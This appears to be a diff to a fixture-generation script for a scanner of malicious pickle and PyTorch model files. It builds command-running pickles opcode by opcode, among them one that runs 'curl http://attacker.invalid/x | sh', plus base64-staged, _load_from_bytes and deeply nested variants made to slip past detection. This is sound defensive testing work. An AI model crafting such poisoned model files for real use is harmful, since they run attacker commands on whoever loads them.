@@ -8,6 +8,7 @@ Outputs are deterministic and committed; CI never runs this script.
 Malicious samples are assembled opcode by opcode (pk.py): no payload is ever
 defined as a Python object, imported or executed.
 """
+import base64
 import gzip
 import io
 import os
@@ -65,6 +66,10 @@ def tar_bytes(members):
 
 OS_SYSTEM_V0 = pk.glob("os", "system") + pk.put0(0) + pk.MARK + pk.u0("curl http://attacker.invalid/x | sh") + pk.TUPLE + pk.REDUCE + pk.STOP
 OS_SYSTEM_V2 = pk.pickle(pk.call("os", "system", pk.s("id > /tmp/pwned")))
+
+
+# A malicious pickle carried as base64 text (staging).
+STAGED = base64.b64encode(OS_SYSTEM_V2).decode()
 
 
 def pickles():
@@ -133,6 +138,9 @@ def pickles():
                 hidden + pk.STOP)
     write("pickle/frame_straddle.pkl", straddle)
     write("pickle/trailing_elf.pkl", pk.pickle(pk.EMPTY_LIST) + b"\x7fELF\x02\x01\x01" + b"\x00" * 57)
+    benign_inner = pk.pickle(pk.glob("collections", "OrderedDict"), pk.EMPTY_TUPLE, pk.REDUCE, p=4)
+    write("pickle/nested_loads_benign.pkl", pk.pickle(pk.glob("pickle", "loads"), pk.bb(benign_inner), pk.TUPLE1, pk.REDUCE))
+    write("pickle/staged_base64.pkl", pk.pickle(pk.EMPTY_DICT, pk.s("note"), pk.s("weights v2"), pk.s("blob"), pk.s(STAGED), pk.SETITEM, pk.SETITEM))
     write("pickle/benign_list_v4.pkl", pk.pickle(pk.EMPTY_LIST, pk.MEMOIZE, pk.MARK, pk.s("a"), pk.s("b"), pk.i(3), pk.APPENDS, p=4))
     write("pickle/benign_ordereddict_v2.pkl", pk.pickle(pk.glob("collections", "OrderedDict"), pk.EMPTY_TUPLE, pk.REDUCE,
                                                         pk.MARK, pk.s("lr"), b"G" + struct.pack(">d", 0.01), pk.SETITEMS))
@@ -246,6 +254,22 @@ def torch_samples():
     rest = buf_legacy_tail()
     write("torch/magic_eval_legacy.pt", magic + rest)
     write("torch/legacy_tar.tar", legacy_tar())
+    # A module pickled with the plain pickle module: its tensors travel as
+    # torch.storage._load_from_bytes(b'<torch.save zip>') calls.
+    import pickle as std_pickle
+    layer = torch.nn.Linear(2, 2)
+    with torch.no_grad():
+        layer.weight.fill_(0.5)
+        layer.bias.fill_(0.25)
+    write("torch/plain_pickled_module.pkl", std_pickle.dumps(layer, protocol=2))
+    # _load_from_bytes of a torch zip whose data.pkl runs a command.
+    evil_zip = zip_bytes([("archive/data.pkl", OS_SYSTEM_V2), ("archive/version", b"3\n")])
+    write("torch/load_from_bytes_payload.pkl",
+          pk.pickle(pk.glob("torch.storage", "_load_from_bytes"), pk.bb(evil_zip), pk.TUPLE1, pk.REDUCE))
+    # Depth: base64 in a dict in a pickle in a torch zip in a tar.
+    deep_pickle = pk.pickle(pk.EMPTY_DICT, pk.s("meta"), pk.s(STAGED), pk.SETITEM)
+    deep_zip = zip_bytes([("archive/data.pkl", deep_pickle), ("archive/version", b"3\n")])
+    write("archive/deep_nested.tar", tar_bytes([({"name": "release/model.pt"}, deep_zip)]))
     # Examples: a checkpoint whose data.pkl was rewritten with a payload.
     write("backdoored_checkpoint.pt", inject_zip_payload(), base=EXAMPLES)
 
